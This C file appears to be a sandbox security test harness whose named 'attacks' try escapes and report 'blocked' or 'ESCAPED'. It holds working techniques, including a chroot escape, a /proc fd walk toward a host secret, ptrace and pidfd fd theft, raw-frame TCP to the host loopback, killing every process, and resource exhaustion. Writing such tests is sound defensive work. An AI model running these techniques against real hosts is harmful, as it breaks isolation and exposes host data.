/* Attacks from inside a sandbox, one per name, for test/security/.
 *
 *   attack NAME [ARG...]
 *
 * Exit 0 and "blocked: ..." when the attack failed as it should; exit 1 and
 * "ESCAPED: ..." when it worked; exit 2 on a usage error. Every attack is
 * a real attempt through the raw syscall (no libc wrapper that could hide
 * an answer); HOST_SECRET (argv) names a file on the host that no sandbox
 * may ever read.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <mqueue.h>
#include <sys/inotify.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int blocked(const char *what) {
  printf("blocked: %s: %s\n", what, strerror(errno));
  return 0;
}
static int escaped(const char *what) {
  printf("ESCAPED: %s\n", what);
  return 1;
}
/* A syscall that must fail: -1 is the expected answer. */
static int expect_fail(long rc, const char *what) {
  return rc < 0 ? blocked(what) : escaped(what);
}

/* The host secret readable at its host path means the root is the host's. */
static int secret_check(const char *secret, const char *how) {
  int fd = open(secret, O_RDONLY);
  if (fd >= 0) {
    char buf[64] = {0};
    ssize_t n = read(fd, buf, sizeof buf - 1);
    printf("ESCAPED: %s: read the host secret (%zd bytes)\n", how, n);
    return 1;
  }
  return blocked(how);
}

static int chroot_escape(const char *secret) {
  /* The classic: chroot into a subdirectory while keeping a cwd outside it,
   * then walk up. Inside a pivoted mount namespace "up" ends at its root. */
  (void)mkdir("/tmp/.jail", 0700);
  int dir = open("/", O_RDONLY | O_DIRECTORY);
  if (chroot("/tmp/.jail") < 0)
    return blocked("chroot");
  if (fchdir(dir) < 0)
    return blocked("fchdir");
  for (int i = 0; i < 64; i++)
    (void)chdir("..");
  if (chroot(".") < 0)
    return blocked("chroot .");
  return secret_check(secret, "chroot escape");
}

static int proc_fd_walk(const char *secret) {
  /* Any fd of any process that points outside the sandbox: try to open it
   * and walk from it to the secret. */
  char path[128];
  for (int pid = 1; pid < 4096; pid++) {
    for (int fd = 0; fd < 64; fd++) {
      snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
      int f = open(path, O_RDONLY | O_DIRECTORY);
      if (f < 0)
        continue;
      char up[4096];
      snprintf(up, sizeof up, "/proc/%d/fd/%d/../../../../../../../../../..%s", pid, fd, secret);
      int s = open(up, O_RDONLY);
      close(f);
      if (s >= 0) {
        printf("ESCAPED: the host secret through %s\n", path);
        return 1;
      }
    }
  }
  errno = ENOENT;
  return blocked("no /proc/*/fd leads to the host");
}

static int ptrace_pid(pid_t pid) {
  long rc = ptrace(PTRACE_ATTACH, pid, NULL, NULL);
  if (rc == 0) {
    (void)waitpid(pid, NULL, __WALL);
    (void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
  }
  return expect_fail(rc, "ptrace attach");
}

static int seize_pid(pid_t pid) {
  return expect_fail(ptrace(PTRACE_SEIZE, pid, NULL, NULL), "ptrace seize");
}

static int vm_read(pid_t pid) {
  char local[16];
  struct iovec l = {local, sizeof local};
  struct iovec r = {(void *)0x400000, sizeof local};
  return expect_fail(syscall(SYS_process_vm_readv, pid, &l, 1, &r, 1, 0), "process_vm_readv");
}

static int proc_mem(pid_t pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  return expect_fail(open(path, O_RDWR), "open /proc/PID/mem");
}

static int pidfd_steal(pid_t pid) {
  int pfd = (int)syscall(SYS_pidfd_open, pid, 0);
  if (pfd < 0)
    return blocked("pidfd_open");
  for (int fd = 0; fd < 64; fd++) {
    long got = syscall(SYS_pidfd_getfd, pfd, fd, 0);
    if (got >= 0) {
      printf("ESCAPED: pidfd_getfd took fd %d of pid %d\n", fd, pid);
      return 1;
    }
  }
  return blocked("pidfd_getfd");
}

static int clone_ns(int flag, const char *what) {
  long rc = syscall(SYS_clone, flag | SIGCHLD, NULL, NULL, NULL, NULL);
  if (rc == 0)
    _exit(0);
  if (rc > 0) {
    (void)waitpid((pid_t)rc, NULL, 0);
    return escaped(what);
  }
  return blocked(what);
}

static int x32_call(void) {
  /* getpid through the x32 ABI: the filter must answer ENOSYS. */
#if defined(__x86_64__)
  return expect_fail(syscall(39 | 0x40000000), "x32 getpid");
#else
  errno = ENOSYS;
  return blocked("no x32 on this arch");
#endif
}

static int write_file(const char *path, const char *data) {
  int fd = open(path, O_WRONLY);
  if (fd < 0)
    return blocked(path);
  ssize_t n = write(fd, data, strlen(data));
  close(fd);
  if (n < 0)
    return blocked(path);
  return escaped(path);
}

static int read_nonempty(const char *path) {
  int fd = open(path, O_RDONLY);
  if (fd < 0)
    return blocked(path);
  char buf[256];
  ssize_t n = read(fd, buf, sizeof buf);
  close(fd);
  if (n <= 0) {
    errno = n == 0 ? ENODATA : errno;
    return blocked(path);
  }
  return escaped(path);
}

static int nested_seccomp_off(void) {
  /* A filter cannot be removed: try to install SECCOMP_MODE_DISABLED-like
   * states and check a blocked call is still blocked. */
  (void)prctl(PR_SET_SECCOMP, 0, 0, 0, 0);
  return expect_fail(syscall(SYS_unshare, CLONE_NEWUSER), "unshare after trying to drop the filter");
}

static int cap_regain(void) {
  /* Exec a setuid-root or file-capability binary cannot bring back a
   * dropped capability: the bounding set is what the kernel uses. */
  FILE *f = fopen("/proc/self/status", "r");
  char line[256];
  unsigned long long bnd = 0;
  while (f && fgets(line, sizeof line, f))
    if (sscanf(line, "CapBnd: %llx", &bnd) == 1)
      break;
  if (f)
    fclose(f);
  /* CAP_SYS_ADMIN = 21, CAP_SYS_PTRACE = 19 */
  if (bnd & ((1ULL << 21) | (1ULL << 19))) {
    printf("ESCAPED: bounding set still has SYS_ADMIN or SYS_PTRACE (%llx)\n", bnd);
    return 1;
  }
  errno = EPERM;
  return blocked("bounding set has neither SYS_ADMIN nor SYS_PTRACE");
}

/* ---- raw frames to the host's loopback (network: true) ----
 * pasta and passt turn a guest's TCP SYN into a connect() on the host to the
 * destination the frame names. The guest's kernel never routes 127.0.0.1 or
 * 0.0.0.0 out of eth0, but a packet socket writes the frame itself: SYN to
 * DST:PORT through the gateway's MAC, then the handshake by hand, reading
 * the host service's first line. */
static unsigned short ip_csum(const void *p, size_t n, unsigned long sum) {
  const unsigned char *b = p;
  for (; n > 1; n -= 2, b += 2)
    sum += (b[0] << 8) | b[1];
  if (n)
    sum += b[0] << 8;
  while (sum >> 16)
    sum = (sum & 0xffff) + (sum >> 16);
  return htons(~sum & 0xffff);
}

struct frame_path {
  int fd;
  struct sockaddr_ll ll;
  unsigned char src[6], dst[6];
  uint32_t sip, dip;
  int sport, dport;
};

static int send_tcp(struct frame_path *f, uint32_t seq, uint32_t ack, int syn) {
  unsigned char b[54] = {0};
  memcpy(b, f->dst, 6);
  memcpy(b + 6, f->src, 6);
  b[12] = 0x08;
  struct iphdr *ip = (void *)(b + 14);
  ip->ihl = 5, ip->version = 4, ip->ttl = 64, ip->protocol = IPPROTO_TCP, ip->tot_len = htons(40);
  ip->saddr = f->sip, ip->daddr = f->dip, ip->id = htons(1);
  ip->check = ip_csum(ip, 20, 0);
  struct tcphdr *t = (void *)(b + 34);
  t->source = htons(f->sport), t->dest = htons(f->dport), t->seq = htonl(seq), t->ack_seq = htonl(ack);
  t->doff = 5, t->window = htons(65000), t->syn = syn, t->ack = !syn;
  uint32_t s = ntohl(f->sip), d = ntohl(f->dip);
  t->check = ip_csum(t, 20, (s >> 16) + (s & 0xffff) + (d >> 16) + (d & 0xffff) + IPPROTO_TCP + 20);
  return (int)sendto(f->fd, b, sizeof b, 0, (void *)&f->ll, sizeof f->ll);
}

static int raw_loopback(const char *dst, int port) {
  struct frame_path f = {.sport = 40000 + getpid() % 20000, .dport = port};
  f.fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
  if (f.fd < 0)
    return blocked("packet socket");
  struct ifreq ifr = {0};
  strcpy(ifr.ifr_name, "eth0");
  if (ioctl(f.fd, SIOCGIFHWADDR, &ifr) < 0)
    return blocked("no eth0 (network off)");
  memcpy(f.src, ifr.ifr_hwaddr.sa_data, 6);
  /* The gateway's MAC: a datagram makes the kernel ARP for it. */
  struct sockaddr_in gw = {.sin_family = AF_INET, .sin_port = htons(9)};
  inet_pton(AF_INET, "10.0.2.2", &gw.sin_addr);
  int u = socket(AF_INET, SOCK_DGRAM, 0);
  (void)sendto(u, "x", 1, 0, (void *)&gw, sizeof gw);
  usleep(300000);
  memset(f.dst, 0xff, 6);
  FILE *arp = fopen("/proc/net/arp", "r");
  char line[256];
  while (arp && fgets(line, sizeof line, arp)) {
    unsigned m[6];
    char ip[64];
    if (sscanf(line, "%63s %*s %*s %x:%x:%x:%x:%x:%x", ip, &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) == 7 && !strcmp(ip, "10.0.2.2"))
      for (int i = 0; i < 6; i++)
        f.dst[i] = (unsigned char)m[i];
  }
  f.ll = (struct sockaddr_ll){.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = (int)if_nametoindex("eth0"), .sll_halen = 6};
  memcpy(f.ll.sll_addr, f.dst, 6);
  inet_pton(AF_INET, "10.0.2.15", &f.sip);
  inet_pton(AF_INET, dst, &f.dip);
  if (send_tcp(&f, 1000, 0, 1) < 0)
    return blocked("send a frame");
  struct timeval tv = {.tv_sec = 1};
  setsockopt(f.fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  int acked = 0, quiet = 0;
  while (quiet < 5) {
    unsigned char b[2048];
    ssize_t n = recv(f.fd, b, sizeof b, 0);
    if (n < 0) {
      quiet++;
      continue;
    }
    if (n < 54 || b[12] != 8 || b[13] != 0)
      continue;
    struct iphdr *ip = (void *)(b + 14);
    if (ip->protocol != IPPROTO_TCP || ip->saddr != f.dip)
      continue;
    struct tcphdr *t = (void *)(b + 14 + ip->ihl * 4);
    if (ntohs(t->dest) != f.sport)
      continue;
    int head = 14 + ip->ihl * 4 + t->doff * 4, len = ntohs(ip->tot_len) + 14 - head;
    if (t->rst) {
      errno = ECONNREFUSED;
      return blocked("reset");
    }
    if (t->syn && t->ack && !acked) {
      acked = 1;
      send_tcp(&f, 1001, ntohl(t->seq) + 1, 0);
    } else if (len > 0) {
      printf("ESCAPED: read from the host's %s:%d: %.*s\n", dst, port, len < 64 ? len : 64, b + head);
      return 1;
    }
  }
  if (acked)
    return escaped("the host's loopback answered the handshake");
  errno = ETIMEDOUT;
  return blocked("no answer");
}

/* Not an attack: ping's way without CAP_NET_RAW, an ICMP datagram socket
 * (allowed by the sandbox's ping_group_range), one echo to ADDR. */
static int icmp_echo(const char *addr) {
  int fd = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
  if (fd < 0) {
    printf("no ICMP datagram socket: %s\n", strerror(errno));
    return 1;
  }
  struct sockaddr_in to = {.sin_family = AF_INET};
  inet_pton(AF_INET, addr, &to.sin_addr);
  unsigned char req[16] = {8, 0}; /* echo request; the kernel sets the id and the checksum */
  if (sendto(fd, req, sizeof req, 0, (void *)&to, sizeof to) < 0) {
    printf("send: %s\n", strerror(errno));
    return 1;
  }
  struct timeval tv = {.tv_sec = 5};
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  unsigned char rep[64];
  ssize_t n = recv(fd, rep, sizeof rep, 0);
  if (n < 1 || rep[0] != 0) {
    printf("no echo reply: %s\n", n < 0 ? strerror(errno) : "wrong type");
    return 1;
  }
  printf("echo reply from %s\n", addr);
  return 0;
}

static int fork_survivor(void) {
  /* A double-forked, setsid daemon that renames itself: the next exec
   * looks for it (test side). */
  pid_t p = fork();
  if (p == 0) {
    if (fork() == 0) {
      setsid();
      prctl(PR_SET_NAME, "survivor", 0, 0, 0);
      signal(SIGTERM, SIG_IGN);
      signal(SIGHUP, SIG_IGN);
      for (;;)
        pause();
    }
    _exit(0);
  }
  (void)waitpid(p, NULL, 0);
  errno = 0;
  printf("planted\n");
  return 0;
}

/* Forks up to n children that wait; prints how many started. A cap on
 * processes must stop it (with or without cgroups). */
static int fork_count(int n) {
  int started = 0;
  for (; started < n; started++) {
    pid_t p = fork();
    if (p < 0)
      break;
    if (p == 0) {
      pause();
      _exit(0);
    }
  }
  printf("started %d\n", started);
  fflush(stdout);
  signal(SIGTERM, SIG_IGN);
  kill(0, SIGTERM); /* the children; pause() ends with the default action */
  while (wait(NULL) > 0) {
  }
  return 0;
}

/* Opens up to n ptys (each open of /dev/ptmx makes a pair) and holds them;
 * prints how many it got. Every devpts instance but the host's first draws
 * on one host-wide count (kernel.pty.max less kernel.pty.reserve), so a
 * sandbox's own instance must have a maximum of its own. */
static int pty_count(int n) {
  int opened = 0;
  for (; opened < n; opened++)
    if (open("/dev/ptmx", O_RDWR | O_NOCTTY) < 0)
      break;
  printf("opened %d (%s)\n", opened, opened < n ? strerror(errno) : "all");
  return 0;
}

/* Makes up to n inotify instances and holds them; prints how many it got.
 * The kernel counts them per user along the chain of user namespaces, up
 * to the host's fs.inotify.max_user_instances (128 by default) for the
 * sandbox's uid outside: the running user's own, when pyro is not root. */
static int inotify_count(int n) {
  int made = 0;
  for (; made < n; made++)
    if (inotify_init1(IN_CLOEXEC) < 0)
      break;
  printf("made %d (%s)\n", made, made < n ? strerror(errno) : "all");
  return 0;
}

/* Queues real-time signals to itself (blocked) until the kernel refuses;
 * prints how many it queued. Pending signals are counted per uid through
 * every user namespace up to the host's RLIMIT_SIGPENDING, and a user whose
 * count is spent gets EAGAIN from timer_create and sigqueue everywhere. */
static int sigqueue_count(long n) {
  sigset_t s;
  sigemptyset(&s);
  sigaddset(&s, SIGRTMIN);
  sigprocmask(SIG_BLOCK, &s, NULL);
  long queued = 0;
  union sigval v = {0};
  for (; queued < n; queued++)
    if (sigqueue(getpid(), SIGRTMIN, v) < 0)
      break;
  printf("queued %ld (%s)\n", queued, queued < n ? strerror(errno) : "all");
  return 0;
}

/* Makes up to mib MiB of System V shared memory (segments of 16 MiB,
 * touched and detached: left alone they would outlive this process) and
 * prints how much it held at once; then removes them, so that the suite's
 * next attacks start from an empty sandbox. Their pages are a tmpfs of
 * the kernel's own, which no size of /dev/shm bounds. */
static int sysv_shm(long mib) {
  static int ids[1024];
  long kept = 0;
  int n = 0, err = 0;
  for (; kept + 16 <= mib && n < 1024; kept += 16) {
    int id = shmget(IPC_PRIVATE, 16L << 20, IPC_CREAT | 0600);
    if (id < 0) {
      err = errno;
      break;
    }
    ids[n++] = id;
    char *p = shmat(id, NULL, 0);
    if (p == (void *)-1) {
      err = errno;
      break;
    }
    memset(p, 1, 16L << 20);
    shmdt(p);
  }
  printf("kept %ld MiB (%s)\n", kept, err ? strerror(err) : "all");
  fflush(stdout);
  for (int i = 0; i < n; i++)
    shmctl(ids[i], IPC_RMID, NULL);
  return 0;
}

/* Opens POSIX message queues of 10 messages of 8 KiB each until refused;
 * prints how many bytes of queues it got. RLIMIT_MSGQUEUE counts them per
 * uid like pending signals. */
static int mqueue_bytes(void) {
  struct mq_attr a = {.mq_maxmsg = 10, .mq_msgsize = 8192};
  long bytes = 0;
  int n = 0;
  char name[32];
  for (; n < 1000; n++) {
    snprintf(name, sizeof name, "pyro-attack-%d", n);
    if (syscall(SYS_mq_open, name, O_RDWR | O_CREAT | O_EXCL, 0600, &a) < 0)
      break;
    bytes += 10L * 8192;
  }
  printf("queued bytes %ld (%s)\n", bytes, strerror(errno));
  for (int i = 0; i < n; i++) {
    snprintf(name, sizeof name, "pyro-attack-%d", i);
    syscall(SYS_mq_unlink, name);
  }
  return 0;
}

int main(int argc, char **argv) {
  if (argc < 2) {
    fprintf(stderr, "usage: attack NAME [ARG...]\n");
    return 2;
  }
  const char *n = argv[1];
  const char *arg = argc > 2 ? argv[2] : "";
  pid_t pid = argc > 2 ? (pid_t)atoi(arg) : 1;

  if (!strcmp(n, "ptrace")) return ptrace_pid(pid);
  if (!strcmp(n, "seize")) return seize_pid(pid);
  if (!strcmp(n, "vm-read")) return vm_read(pid);
  if (!strcmp(n, "proc-mem")) return proc_mem(pid);
  if (!strcmp(n, "pidfd-getfd")) return pidfd_steal(pid);
  if (!strcmp(n, "proc-fd-walk")) return proc_fd_walk(arg);
  if (!strcmp(n, "chroot-escape")) return chroot_escape(arg);
  if (!strcmp(n, "secret")) return secret_check(arg, "open the host path");
  if (!strcmp(n, "unshare-user")) return expect_fail(syscall(SYS_unshare, CLONE_NEWUSER), "unshare user");
  if (!strcmp(n, "unshare-mount")) return expect_fail(syscall(SYS_unshare, CLONE_NEWNS), "unshare mount");
  if (!strcmp(n, "unshare-net")) return expect_fail(syscall(SYS_unshare, CLONE_NEWNET), "unshare net");
  if (!strcmp(n, "clone-user")) return clone_ns(CLONE_NEWUSER, "clone NEWUSER");
  if (!strcmp(n, "clone-mount")) return clone_ns(CLONE_NEWNS, "clone NEWNS");
  if (!strcmp(n, "clone-pid")) return clone_ns(CLONE_NEWPID, "clone NEWPID");
  if (!strcmp(n, "clone-net")) return clone_ns(CLONE_NEWNET, "clone NEWNET");
  if (!strcmp(n, "clone-ipc")) return clone_ns(CLONE_NEWIPC, "clone NEWIPC");
  if (!strcmp(n, "clone-uts")) return clone_ns(CLONE_NEWUTS, "clone NEWUTS");
  if (!strcmp(n, "clone-cgroup")) return clone_ns(CLONE_NEWCGROUP, "clone NEWCGROUP");
  if (!strcmp(n, "clone3")) {
    char args[88] = {0};
    return expect_fail(syscall(SYS_clone3, args, sizeof args), "clone3");
  }
  if (!strcmp(n, "setns")) {
    int fd = open("/proc/1/ns/mnt", O_RDONLY);
    if (fd < 0) return blocked("open /proc/1/ns/mnt");
    return expect_fail(syscall(SYS_setns, fd, 0), "setns");
  }
  if (!strcmp(n, "mount-proc")) return expect_fail(mount("proc", "/tmp", "proc", 0, NULL), "mount proc");
  if (!strcmp(n, "mount-tmpfs")) return expect_fail(mount("tmpfs", "/tmp", "tmpfs", 0, NULL), "mount tmpfs");
  if (!strcmp(n, "mount-cgroup")) return expect_fail(mount("cgroup", "/tmp", "cgroup", 0, "memory"), "mount cgroup");
  if (!strcmp(n, "mount-bind")) return expect_fail(mount("/", "/tmp", NULL, MS_BIND, NULL), "bind mount");
  if (!strcmp(n, "remount-sys-rw")) return expect_fail(mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL), "remount /proc/sys rw");
  if (!strcmp(n, "umount-proc-sys")) return expect_fail(umount2("/proc/sys", MNT_DETACH), "umount /proc/sys");
  if (!strcmp(n, "umount-proc")) return expect_fail(umount2("/proc", MNT_DETACH), "umount /proc");
  if (!strcmp(n, "fsopen")) return expect_fail(syscall(SYS_fsopen, "proc", 0), "fsopen");
  if (!strcmp(n, "open-tree")) return expect_fail(syscall(SYS_open_tree, AT_FDCWD, "/", 1), "open_tree");
  if (!strcmp(n, "pivot-root")) return expect_fail(syscall(SYS_pivot_root, "/tmp", "/tmp"), "pivot_root");
  if (!strcmp(n, "io-uring")) {
    char params[120] = {0};
    return expect_fail(syscall(425, 8, params), "io_uring_setup");
  }
  if (!strcmp(n, "io-setup")) {
    /* Every AIO context counts against one host-wide total, fs.aio-max-nr
     * (65536 events by default), with no per-user or per-namespace share:
     * a sandbox holding it all made every io_setup on the host fail. */
    unsigned long ctx = 0;
    return expect_fail(syscall(SYS_io_setup, 4096, &ctx), "io_setup");
  }
  if (!strcmp(n, "keyctl")) return expect_fail(syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* session */, 0), "keyctl session keyring");
  if (!strcmp(n, "add-key")) return expect_fail(syscall(SYS_add_key, "user", "pyro", "x", 1, -3), "add_key");
  if (!strcmp(n, "bpf")) {
    char attr[128] = {0};
    return expect_fail(syscall(SYS_bpf, 0, attr, sizeof attr), "bpf");
  }
  if (!strcmp(n, "perf")) {
    char attr[128] = {0};
    return expect_fail(syscall(SYS_perf_event_open, attr, 0, -1, -1, 0), "perf_event_open");
  }
  if (!strcmp(n, "userfaultfd")) return expect_fail(syscall(SYS_userfaultfd, 0), "userfaultfd");
  if (!strcmp(n, "kexec")) return expect_fail(syscall(SYS_kexec_load, 0, 0, NULL, 0), "kexec_load");
  if (!strcmp(n, "init-module")) return expect_fail(syscall(SYS_init_module, "", 0, ""), "init_module");
  if (!strcmp(n, "delete-module")) return expect_fail(syscall(SYS_delete_module, "ext4", 0), "delete_module");
  if (!strcmp(n, "open-by-handle")) {
    char h[136] = {0};
    ((unsigned *)h)[0] = 8;
    return expect_fail(syscall(SYS_open_by_handle_at, AT_FDCWD, h, O_RDONLY), "open_by_handle_at");
  }
  if (!strcmp(n, "name-to-handle")) {
    char h[136] = {0};
    int mnt;
    ((unsigned *)h)[0] = 128;
    return expect_fail(syscall(SYS_name_to_handle_at, AT_FDCWD, "/", h, &mnt, 0), "name_to_handle_at");
  }
  if (!strcmp(n, "reboot")) return expect_fail(syscall(SYS_reboot, 0xfee1dead, 672274793, 0x1234567, NULL), "reboot");
  if (!strcmp(n, "swapon")) return expect_fail(syscall(SYS_swapon, "/tmp", 0), "swapon");
  if (!strcmp(n, "syslog")) {
    char buf[64];
    return expect_fail(syscall(SYS_syslog, 3, buf, sizeof buf), "syslog read");
  }
  if (!strcmp(n, "iopl")) {
#if defined(__x86_64__)
    return expect_fail(syscall(SYS_iopl, 3), "iopl");
#else
    errno = ENOSYS;
    return blocked("no iopl on this arch");
#endif
  }
  if (!strcmp(n, "personality")) return expect_fail(syscall(SYS_personality, 0x0040000 /* ADDR_NO_RANDOMIZE */), "personality");
  if (!strcmp(n, "x32")) return x32_call();
  if (!strcmp(n, "acct")) return expect_fail(syscall(SYS_acct, "/tmp/acct"), "acct");
  if (!strcmp(n, "quotactl")) return expect_fail(syscall(SYS_quotactl, 0, "/", 0, NULL), "quotactl");
  if (!strcmp(n, "settime")) {
    struct timespec ts = {1, 0};
    return expect_fail(syscall(SYS_clock_settime, CLOCK_REALTIME, &ts), "clock_settime");
  }
  if (!strcmp(n, "mknod-disk")) return expect_fail(mknod("/tmp/sda", S_IFBLK | 0600, makedev(8, 0)), "mknod a block device");
  if (!strcmp(n, "sethostname-host")) {
    /* Allowed in the sandbox's own uts namespace: the test checks the host's name is unchanged. */
    if (sethostname("pyro-attacked", 13) < 0) return blocked("sethostname");
    printf("changed own hostname\n");
    return 0;
  }
  if (!strcmp(n, "kill-init")) {
    kill(1, SIGKILL);
    usleep(100000);
    errno = 0;
    printf("blocked: still alive after kill -9 1\n");
    return 0;
  }
  if (!strcmp(n, "kill-all")) {
    kill(-1, SIGKILL); /* every process this one may signal, except itself */
    usleep(100000);
    printf("blocked: still alive after kill -9 -1\n");
    return 0;
  }
  if (!strcmp(n, "seccomp-off")) return nested_seccomp_off();
  if (!strcmp(n, "cap-regain")) return cap_regain();
  if (!strcmp(n, "write")) return argc > 3 ? write_file(argv[2], argv[3]) : 2;
  if (!strcmp(n, "read")) return read_nonempty(arg);
  if (!strcmp(n, "raw-loopback")) return argc > 3 ? raw_loopback(argv[2], atoi(argv[3])) : 2;
  /* The blind way to the same end: a raw IP socket sends the header it is given (IPPROTO_RAW: IP_HDRINCL). */
  if (!strcmp(n, "raw-ip")) return expect_fail(socket(AF_INET, SOCK_RAW, IPPROTO_RAW), "raw IP socket");
  if (!strcmp(n, "icmp-echo")) return icmp_echo(arg);
  if (!strcmp(n, "survivor")) return fork_survivor();
  if (!strcmp(n, "fork-count")) return fork_count(atoi(arg));
  if (!strcmp(n, "pty-count")) return pty_count(atoi(arg));
  if (!strcmp(n, "inotify-count")) return inotify_count(atoi(arg));
  if (!strcmp(n, "sigqueue-count")) return sigqueue_count(atol(arg));
  if (!strcmp(n, "sysv-shm")) return sysv_shm(atol(arg));
  if (!strcmp(n, "mqueue-bytes")) return mqueue_bytes();
  fprintf(stderr, "attack: unknown attack %s\n", n);
  return 2;
}
